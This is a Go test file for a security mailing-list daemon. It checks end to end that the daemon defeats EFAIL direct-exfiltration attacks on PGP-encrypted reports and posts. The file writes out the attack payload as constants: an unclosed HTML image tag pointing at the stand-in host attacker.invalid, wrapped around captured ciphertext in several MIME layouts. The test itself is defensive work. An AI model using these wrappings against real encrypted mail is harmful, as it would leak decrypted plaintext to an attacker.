package daemon_test

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	gomessage "github.com/emersion/go-message"

	"github.com/embargo-project/embargo/cmd/embargo/daemon/daemontest"
	"github.com/embargo-project/embargo/cmd/embargo/daemon/queue/queuetest"
)

// EFAIL direct exfiltration through the list (docs/threat-model.md D2),
// end to end: an attacker who captured a ciphertext the list produced or
// accepted wraps it in parts of their own and sends it to the lists. Only
// a message whose whole top level is encrypted counts as encrypted: the
// wrapped ciphertext is never decrypted, security@ takes the message as
// plaintext (and says so to the committee), distributors@ refuses it, and
// no copy merges the attacker's parts with decrypted content.

const (
	efailReportCanary = "CANARY-D2-report" // in the reporter's encrypted report
	efailPostCanary   = "CANARY-D2-post"   // in a distributor's encrypted post
	// efailOpen and efailClose are the attacker's parts: an unclosed
	// image URL that a mail client rendering HTML completes with whatever
	// it decrypted in between, and sends to the attacker's server.
	efailOpen   = `<html><body>ATTACKER-OUTER <img src="http://attacker.invalid/?`
	efailClose  = `"> ATTACKER-OUTER</body></html>`
	efailMarker = "ATTACKER-OUTER"
	// efailNote is what the committee's copy of a message that carried
	// ciphertext beside other content says (listd.partlyEncryptedNote).
	efailNote = "was not encrypted as a whole"
)

// efailLayout wraps an armored ciphertext in the attacker's MIME: it
// returns the message's MIME header fields and body (CRLF).
type efailLayout struct {
	name string
	html bool // the attacker's parts are text/html
	wrap func(ct string) string
}

// efailLayouts are the layouts of the EFAIL paper (efail.de, direct
// exfiltration) and of the list-server variant: the ciphertext between
// two HTML parts, as its own part of each kind mail clients decrypt; the
// same with text/plain parts; inline with text around it; and a
// multipart/encrypted with a third part.
func efailLayouts() []efailLayout {
	mixed := func(open, mid, close string) string {
		return daemontest.Entity(daemontest.Multipart("efail-outer", "", open, mid, close),
			"MIME-Version: 1.0", `Content-Type: multipart/mixed; boundary="efail-outer"`)
	}
	html := func(s string) string { return daemontest.Entity(s, "Content-Type: text/html; charset=utf-8") }
	text := func(s string) string { return daemontest.Entity(s, "Content-Type: text/plain; charset=utf-8") }
	// pgpMIME is a PGP/MIME entity (RFC 3156 §4) around ct, with extra
	// parts after the two it has; top adds the top level's MIME-Version.
	pgpMIME := func(ct string, top bool, extra ...string) string {
		parts := append([]string{
			daemontest.Entity("Version: 1\n", "Content-Type: application/pgp-encrypted"),
			daemontest.Entity(ct, `Content-Type: application/octet-stream; name="encrypted.asc"`),
		}, extra...)
		hdr := []string{`Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="efail-inner"`}
		if top {
			hdr = append([]string{"MIME-Version: 1.0"}, hdr...)
		}
		return daemontest.Entity(daemontest.Multipart("efail-inner", "", parts...), hdr...)
	}
	asPart := func(ct string) string {
		return daemontest.Entity(ct, `Content-Type: application/pgp-encrypted; name="msg.asc"`)
	}
	asOctets := func(ct string) string {
		return daemontest.Entity(ct, `Content-Type: application/octet-stream; name="encrypted.asc"`,
			`Content-Disposition: inline; filename="encrypted.asc"`)
	}
	return []efailLayout{
		{"html, application/pgp-encrypted, html", true, func(ct string) string { return mixed(html(efailOpen), asPart(ct), html(efailClose)) }},
		{"html, octet-stream, html", true, func(ct string) string { return mixed(html(efailOpen), asOctets(ct), html(efailClose)) }},
		{"html, multipart/encrypted, html", true, func(ct string) string { return mixed(html(efailOpen), pgpMIME(ct, false), html(efailClose)) }},
		{"text, octet-stream, text", false, func(ct string) string { return mixed(text(efailOpen), asOctets(ct), text(efailClose)) }},
		{"text, multipart/encrypted, text", false, func(ct string) string { return mixed(text(efailOpen), pgpMIME(ct, false), text(efailClose)) }},
		{"inline, text around it", false, func(ct string) string {
			return daemontest.Entity(efailOpen+"\n\n"+ct+"\n"+efailClose+"\n", "MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8")
		}},
		{"multipart/encrypted with a third part", true, func(ct string) string {
			return pgpMIME(ct, true, html(efailClose))
		}},
	}
}

// captured is a ciphertext the attacker took off the wire, and the one
// address (if any) that can decrypt it besides the list.
type captured struct {
	name, armored, owner string
}

// efailFixture is a committee (alice, bob), a distributor, a reporter, and
// the ciphertexts captured from their mail.
type efailFixture struct {
	*cmdFixture
	d1      *distributor
	id      string // the incident of the encrypted report
	copyMID string // the Message-ID of alice's copy of it, as relays see it
	cts     map[string]captured
	readers map[string]*daemontest.GPG
	sent    int // attack messages sent
}

func newEFAILFixture(t *testing.T) *efailFixture {
	t.Helper()
	d1 := &distributor{addr: "one@vendor1.test"}
	// Every attack from a stranger is a new report from one client: the
	// intake limits per client (docs/threat-model.md B8) are not what this
	// test is about.
	f := &efailFixture{cmdFixture: newCmdFixtureWith(t, []*distributor{d1}, "\n[intake]\nnew_incidents_per_client_per_hour = 0\n"), d1: d1}
	f.readers = map[string]*daemontest.GPG{"alice@ex.test": f.alice, "bob@ex.test": f.bob, d1.addr: d1.g}

	// A reporter's report, encrypted to the security key.
	report := f.reporter.Must([]byte("Heap overflow in the parser: "+efailReportCanary+"\n"), "--encrypt", "--armor", "-r", f.secFpr)
	f.h.MustSend("rep2@out.test", []string{"security@ex.test"}, "From: rep2@out.test\nTo: security@ex.test\nSubject: Encrypted message\nMessage-ID: <efail-report@out.test>\n\n"+string(report))
	msgs := f.next(3) // ack, alice's and bob's copies
	f.id = idRE.FindString(string(daemontest.To(msgs, "rep2@out.test")[0].Data))
	aliceCopy := daemontest.To(msgs, "alice@ex.test")[0]
	hd := daemontest.Header(t, aliceCopy)
	f.copyMID = hd.Get("Message-Id")
	if plain, _ := f.alice.DecryptMIME(aliceCopy.Data); f.id == "" || f.copyMID == "" || !bytes.Contains(plain, []byte(efailReportCanary)) {
		t.Fatalf("the encrypted report: incident %q, copy Message-ID %q", f.id, f.copyMID)
	}

	// A distributor's post, signed and encrypted to the distributors key.
	dfpr := d1.g.Fingerprint("distributors@ex.test")
	post := d1.g.Must([]byte("Our analysis: "+efailPostCanary+"\n"), "--sign", "--encrypt", "--armor", "-u", d1.fpr, "-r", dfpr)
	f.h.MustSend(d1.addr, []string{"distributors@ex.test"}, "From: "+d1.addr+"\nTo: distributors@ex.test\nSubject: Encrypted message\n\n"+string(post))
	msgs = f.next(2) // the committee's copies
	if plain, _ := f.alice.DecryptMIME(daemontest.To(msgs, "alice@ex.test")[0].Data); !bytes.Contains(plain, []byte(efailPostCanary)) {
		t.Fatal("the distributor's post did not reach the committee")
	}

	f.cts = map[string]captured{
		"report":     {"the report to the security key", string(report), ""},
		"post":       {"the post to the distributors key", string(post), ""},
		"alice-copy": {"alice's copy of the report", string(daemontest.ArmorBlock.Find(aliceCopy.Data)), "alice@ex.test"},
	}
	return f
}

// efailRoute is where the attacker sends a wrapped ciphertext, and as whom.
type efailRoute struct {
	name       string
	envFrom    string
	from, to   string // the From field and the envelope recipient
	thread     bool   // a reply into the encrypted report's thread
	security   bool   // security@ (else distributors@)
	newReport  bool   // it opens an incident: the stranger gets the acknowledgement
	committee  []string
	warnMember string // the member distributors@ warns (once an hour)
}

func (f *efailFixture) routes() []efailRoute {
	return []efailRoute{
		{name: "new report from a stranger", envFrom: "mallory@evil.test", from: "mallory@evil.test", to: "security@ex.test",
			security: true, newReport: true, committee: []string{"alice@ex.test", "bob@ex.test"}},
		{name: "reply in the thread from a stranger", envFrom: "mallory@evil.test", from: "mallory@evil.test", to: "security+" + f.id + "@ex.test",
			thread: true, security: true, newReport: true, committee: []string{"alice@ex.test", "bob@ex.test"}},
		{name: "reply in the thread as alice", envFrom: "alice@ex.test", from: "alice@ex.test", to: "security+" + f.id + "@ex.test",
			thread: true, security: true, committee: []string{"bob@ex.test"}},
		{name: "post from a stranger", envFrom: "mallory@evil.test", from: "mallory@evil.test", to: "distributors@ex.test",
			committee: []string{"alice@ex.test", "bob@ex.test"}},
		{name: "post as the distributor", envFrom: f.d1.addr, from: f.d1.addr, to: "distributors@ex.test",
			committee: []string{"alice@ex.test", "bob@ex.test"}, warnMember: f.d1.addr},
	}
}

// TestEFAILEndToEnd (docs/threat-model.md D2): every layout around the
// ciphertext a list can decrypt, on every route, and the html layout around
// each other captured ciphertext; then no outbound byte, and no plaintext
// of any outbound copy decrypted by its recipient with gpg, holds a
// canary, and no copy carries the attacker's HTML.
func TestEFAILEndToEnd(t *testing.T) {
	f := newEFAILFixture(t)
	baseline := f.seen
	layouts := efailLayouts()
	warned := map[string]bool{}
	for _, r := range f.routes() {
		primary := "report"
		if !r.security {
			primary = "post"
		}
		for _, l := range layouts {
			f.attack(t, r, l, f.cts[primary], warned)
		}
		for _, name := range []string{"report", "post", "alice-copy"} {
			if name != primary {
				f.attack(t, r, layouts[1], f.cts[name], warned)
			}
		}
	}
	attacks := f.h.Settle(f.seen)[baseline:] // nothing more came
	if logs := f.h.Logs.String(); strings.Contains(logs, efailReportCanary) || strings.Contains(logs, efailPostCanary) {
		t.Error("a canary reached the daemon's log")
	}
	t.Logf("%d attack messages, %d outbound messages checked", f.sent, len(attacks))
}

// attack sends ct wrapped in l along r and checks the reply and the mail
// it caused.
func (f *efailFixture) attack(t *testing.T, r efailRoute, l efailLayout, ct captured, warned map[string]bool) {
	t.Helper()
	f.sent++
	what := fmt.Sprintf("%s, %s around %s", r.name, l.name, ct.name)
	env := r.envFrom
	if r.newReport {
		// One acknowledgement per address a day (docs/threat-model.md B8):
		// a new address each time, so that each attack's is sent.
		env = fmt.Sprintf("mallory%d@evil.test", f.sent)
	}
	from := r.from
	if r.from == r.envFrom && r.newReport {
		from = env
	}
	hdr := fmt.Sprintf("From: %s\r\nTo: %s\r\nSubject: Encrypted message\r\nMessage-ID: <efail-%d@evil.test>\r\nDate: %s\r\n",
		from, r.to, f.sent, time.Now().UTC().Format(time.RFC1123Z))
	if r.thread {
		hdr += "In-Reply-To: " + f.copyMID + "\r\nReferences: " + f.copyMID + "\r\n"
	}
	err := daemontest.SendSMTP(f.h.Addr(), env, []string{r.to}, []byte(hdr+l.wrap(ct.armored)))
	want := len(r.committee)
	if r.security {
		if err != nil {
			t.Fatalf("%s: %v; security@ takes it, as plaintext", what, err)
		}
		if r.newReport {
			want++
		}
	} else {
		if c, e := daemontest.Code(err); c != 550 || e != "5.7.1" || !strings.Contains(err.Error(), "only mail encrypted to its key") {
			t.Fatalf("%s: %v; want 550 5.7.1, the list takes only mail encrypted to its key", what, err)
		}
		if r.warnMember != "" && !warned[r.warnMember] {
			warned[r.warnMember] = true
			want++
		}
	}
	// What arrived is checked for the canaries first, so that a broken
	// control fails by name, not by a count.
	msgs := f.arrived(want)
	for _, m := range msgs {
		f.checkOutbound(t, what, m)
	}
	if len(msgs) != want {
		t.Fatalf("%s: %d messages, want %d:\n%s", what, len(msgs), want, daemontest.Summary(msgs))
	}
	f.seen += want
	for _, addr := range r.committee {
		got := daemontest.To(msgs, addr)
		if len(got) != 1 {
			t.Fatalf("%s: %s got %d messages:\n%s", what, addr, len(got), daemontest.Summary(msgs))
		}
		plain, st := f.readers[addr].DecryptMIME(got[0].Data)
		daemontest.MustContain(t, what+": gpg --decrypt of "+addr+"'s copy", st, "DECRYPTION_OKAY", "GOODSIG")
		text := daemontest.MIMEText(plain)
		if r.security {
			// Taken as plaintext, and the committee is told why.
			daemontest.MustContain(t, what+": "+addr+"'s copy", text, efailNote)
			if strings.Contains(text, "It arrived encrypted") {
				t.Errorf("%s: %s's copy says the message arrived encrypted", what, addr)
			}
		} else {
			daemontest.MustContain(t, what+": "+addr+"'s alert", text, "a plaintext post was refused; it reached nobody")
			if strings.Contains(text, efailMarker) || bytes.Contains(plain, []byte("BEGIN PGP MESSAGE")) {
				t.Errorf("%s: the alert to %s quotes the refused post", what, addr)
			}
		}
		if l.html && (strings.Contains(string(plain), "attacker.invalid") || hasHTML(plain)) {
			t.Errorf("%s: %s's copy carries the attacker's HTML", what, addr)
		}
		f.checkNested(t, what, addr, plain, ct)
	}
	if r.newReport && len(daemontest.To(msgs, env)) != 1 {
		t.Errorf("%s: the stranger got no acknowledgement:\n%s", what, daemontest.Summary(msgs))
	}
}

// arrived waits up to 10 seconds for want more messages at the relay and
// returns those that came, fewer if fewer did.
func (f *efailFixture) arrived(want int) []queuetest.Message {
	deadline := time.Now().Add(10 * time.Second)
	for len(f.h.Rec.Messages()) < f.seen+want && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	return f.h.Rec.Messages()[f.seen:]
}

// checkNested decrypts, with the recipient's key, every armored ciphertext
// inside the plaintext of a copy (its text and its decoded attachments), as
// a mail client might: only the captured ciphertext's own recipient may
// read one, and then only what they were sent before; nobody may read
// a canary from it.
func (f *efailFixture) checkNested(t *testing.T, what, addr string, plain []byte, ct captured) {
	t.Helper()
	for _, body := range append(decodedBodies(plain), plain) {
		for _, block := range daemontest.ArmorBlock.FindAll(body, -1) {
			out, _, err := f.readers[addr].Run(block, "--decrypt")
			if err != nil {
				continue
			}
			if addr != ct.owner {
				t.Errorf("%s: %s can decrypt a ciphertext inside their copy that was never theirs", what, addr)
			}
			if addr != ct.owner && (bytes.Contains(out, []byte(efailReportCanary)) || bytes.Contains(out, []byte(efailPostCanary))) {
				t.Errorf("%s: a canary inside %s's copy, one level down", what, addr)
			}
		}
	}
}

// checkOutbound holds for every message the attacks caused: no canary in
// its bytes, nor in its plaintext decrypted by its recipient.
func (f *efailFixture) checkOutbound(t *testing.T, what string, m queuetest.Message) {
	t.Helper()
	for _, c := range []string{efailReportCanary, efailPostCanary} {
		if bytes.Contains(m.Data, []byte(c)) {
			t.Errorf("%s: %s reached the relay in clear, in the mail to %v", what, c, m.To)
		}
	}
	block := daemontest.ArmorBlock.Find(m.Data)
	if block == nil {
		return // the strangers' acknowledgements: signed, not encrypted
	}
	g := f.readers[m.To[0]]
	if g == nil {
		t.Errorf("%s: an encrypted message to %v, who holds no key of this test", what, m.To)
		return
	}
	plain, _ := g.DecryptMIME(m.Data)
	for _, c := range []string{efailReportCanary, efailPostCanary} {
		if bytes.Contains(plain, []byte(c)) || strings.Contains(daemontest.MIMEText(plain), c) {
			t.Errorf("%s: %s in the plaintext of the mail to %v", what, c, m.To)
		}
	}
}

// decodedBodies are the decoded bodies of every leaf part of a MIME entity.
func decodedBodies(b []byte) [][]byte {
	e, err := gomessage.Read(bytes.NewReader(b))
	if e == nil {
		return nil
	}
	_ = err // an unknown charset still reads
	var out [][]byte
	e.Walk(func(_ []int, p *gomessage.Entity, _ error) error {
		if t, _, _ := p.Header.ContentType(); !strings.HasPrefix(t, "multipart/") {
			body, _ := io.ReadAll(p.Body)
			out = append(out, body)
		}
		return nil
	})
	return out
}

// hasHTML reports whether a MIME entity has a text/html part.
func hasHTML(b []byte) bool {
	e, _ := gomessage.Read(bytes.NewReader(b))
	found := false
	if e != nil {
		e.Walk(func(_ []int, p *gomessage.Entity, _ error) error {
			if t, _, _ := p.Header.ContentType(); t == "text/html" {
				found = true
			}
			return nil
		})
	}
	return found
}
